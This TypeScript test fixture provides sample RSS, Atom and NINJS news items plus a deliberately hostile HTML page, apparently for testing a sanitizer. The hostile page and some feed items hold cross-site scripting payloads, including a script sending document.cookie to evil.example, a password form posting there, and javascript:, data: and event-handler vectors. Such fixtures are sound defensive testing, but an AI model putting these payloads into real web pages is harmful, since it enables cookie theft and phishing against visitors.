/**
 * @module
 * Sample wire copy for the tests: an RSS feed, an Atom feed, NINJS objects and a hostile
 * web page. The texts were written for these tests.
 */

export const STORY_EN_1 =
  'Flood defences along the river held overnight after three days of heavy rain, the regional water authority said on Monday, but engineers warned that the ground remained saturated and further storms could test the barriers again later in the week.'
export const STORY_EN_2 =
  'The city council approved a plan to extend the tram network to the northern suburbs, with construction expected to begin next spring and the first new stops opening within three years, according to the transport department.'
export const STORY_DE =
  'Die Landesregierung hat am Dienstag ein neues Programm zur Förderung von Solaranlagen auf öffentlichen Gebäuden vorgestellt, das in den kommenden fünf Jahren mehrere hundert Schulen und Rathäuser mit Strom versorgen soll.'

/** An RSS 2.0 feed with two items (one with content:encoded and an image enclosure). */
export function rssFeed(base: string, extra = ''): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
<channel>
<title>Example Wire – World</title>
<link>${base}/</link>
<language>en-gb</language>
<item>
  <title>Flood defences hold after three days of rain</title>
  <link>${base}/news/flood-defences</link>
  <guid isPermaLink="false">ew-2026-0001</guid>
  <pubDate>Mon, 07 Dec 2026 09:30:00 GMT</pubDate>
  <dc:creator>Anna Reporter</dc:creator>
  <description>Engineers warn the ground remains saturated.</description>
  <content:encoded><![CDATA[<p>${STORY_EN_1}</p><p>Residents were told to <a href="/advice">follow official advice</a>.<script>alert(1)</script></p>]]></content:encoded>
  <enclosure url="${base}/img/river.jpg" type="image/jpeg" length="12345"/>
  <media:content url="${base}/img/river.jpg" medium="image"><media:description>The river at dawn</media:description><media:credit>Photo: Example Wire</media:credit></media:content>
</item>
<item>
  <title>Tram network to reach northern suburbs</title>
  <link>${base}/news/tram-network</link>
  <guid>${base}/news/tram-network</guid>
  <pubDate>Mon, 07 Dec 2026 08:00:00 GMT</pubDate>
  <description>&lt;p&gt;${STORY_EN_2}&lt;/p&gt;</description>
</item>
${extra}
</channel>
</rss>`
}

export function rssItem(base: string, guid: string, title: string, text: string): string {
  return `<item><title>${title}</title><link>${base}/news/${guid}</link><guid isPermaLink="false">${guid}</guid><pubDate>Mon, 07 Dec 2026 10:00:00 GMT</pubDate><description>${text}</description></item>`
}

export function atomFeed(base: string): string {
  return `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de">
  <title type="text">Beispiel Nachrichten</title>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <updated>2026-12-08T10:00:00Z</updated>
  <entry>
    <title type="html">Solarstrom für Schulen &amp;amp; Rathäuser</title>
    <link rel="alternate" href="${base}/artikel/solar"/>
    <link rel="enclosure" type="image/jpeg" href="${base}/img/solar.jpg"/>
    <id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>
    <published>2026-12-08T09:00:00+01:00</published>
    <author><name>Max Muster</name></author>
    <summary>Ein neues Förderprogramm.</summary>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>${STORY_DE}</p><p><strong>Wichtig:</strong> <a href="/mehr">mehr</a></p></div></content>
  </entry>
  <entry>
    <title>Kurzmeldung</title>
    <link href="${base}/artikel/kurz"/>
    <id>tag:example.de,2026:kurz</id>
    <updated>2026-12-08T08:00:00Z</updated>
    <content type="html">&lt;p&gt;Erste Zeile &amp;amp; mehr.&lt;/p&gt;</content>
  </entry>
</feed>`
}

/** A NINJS 2.0 text item with a picture association. */
export function ninjsItem(uri: string, overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    $standard: { name: 'ninjs', version: '2.0', schema: 'http://www.iptc.org/std/ninjs/ninjs-schema_2.0.json' },
    uri,
    type: 'text',
    version: '1',
    versioncreated: '2026-12-07T11:00:00Z',
    pubstatus: 'usable',
    language: 'en',
    headlines: [{ value: 'Council approves tram extension', role: 'main' }],
    bylines: [{ byline: 'By Tom Writer' }],
    descriptions: [{ value: 'Construction to begin next spring.', role: 'summary', contenttype: 'text/plain' }],
    bodies: [{ value: `<p>${STORY_EN_2}</p><p onclick="x()">Officials <script>steal()</script>welcomed the decision.</p>`, contenttype: 'text/html', role: 'main' }],
    associations: [
      {
        name: 'featureimage',
        uri: `${uri}-pic`,
        type: 'picture',
        descriptions: [{ value: 'A tram at the depot', role: 'caption' }],
        creditline: 'Example Agency/Jan Foto',
        renditions: [
          { name: 'thumbnail', href: 'https://cdn.example.org/pic/thumb.jpg', width: 200 },
          { name: 'original', href: 'https://cdn.example.org/pic/original.jpg', width: 3000 },
        ],
      },
    ],
    ...overrides,
  }
}

/** A NINJS 1.x item. */
export function ninjs1Item(uri: string, text: string): Record<string, unknown> {
  return {
    uri,
    type: 'text',
    version: '2',
    versioncreated: '2026-12-07T12:00:00Z',
    language: 'de',
    headline: 'Solarprogramm vorgestellt',
    byline: 'Max Muster',
    body_text: `${text}\n\nZweiter Absatz.`,
    description_text: 'Ein neues Förderprogramm.',
    associations: {
      featureimage: { uri: `${uri}-pic`, type: 'picture', description_text: 'Solarpaneele', renditions: { baseImage: { href: 'https://cdn.example.org/solar.jpg', width: 1200 } } },
    },
  }
}

export const HOSTILE_PAGE = `<!DOCTYPE html>
<html lang="en"><head>
<title>Storm hits the coast | Coastal Herald</title>
<meta property="og:site_name" content="Coastal Herald">
<script>document.cookie = 'stolen'</script>
<style>body { background: url(javascript:alert(1)) }</style>
</head>
<body onload="alert('onload')">
<nav><a href="/">Home</a> <a href="/world">World</a></nav>
<article>
<h1>Storm hits the coast</h1>
<p class="byline">By Jane Doe</p>
<p onclick="alert('click')">A powerful storm hit the northern coast on Tuesday, <strong>flooding</strong> several towns and cutting power to thousands of homes, officials said.</p>
<p>Rescue teams <a href="javascript:alert('xss')">worked through the night</a> to reach people stranded by the rising water, according to the <a href="/regional-authority" onmouseover="steal()">regional authority</a>.</p>
<script>fetch('https://evil.example/?c=' + document.cookie)</script>
<h2>Evacuations</h2>
<p>More than 2,000 people were moved to temporary shelters, the <em>interior ministry</em> said in a statement. <img src="x" onerror="alert('img')"></p>
<figure><img src="/photos/storm.jpg" alt="Flooded street" onerror="alert(1)"><figcaption>Water fills a street in the harbour district. <small>Photo: J. Smith</small></figcaption></figure>
<blockquote><p>We have never seen anything like this.</p><p><cite>— local mayor</cite></p></blockquote>
<ul><li>Schools closed</li><li>Trains cancelled <ul><li>Ferries too</li></ul></li></ul>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/phish"><input name="password"><button>Log in</button></form>
<p><a href="data:text/html,<script>alert(1)</script>">data link</a> and <a href="vbscript:msgbox">vb link</a> and <a href="  JaVaScRiPt:alert(2)">mixed case</a>.</p>
<svg><script>alert('svg')</script><text>svg text</text></svg>
<p>The weather service expects the storm to weaken by Thursday as it moves inland over the hills.</p>
</article>
<aside class="comments"><p>Comment spam</p></aside>
</body></html>`
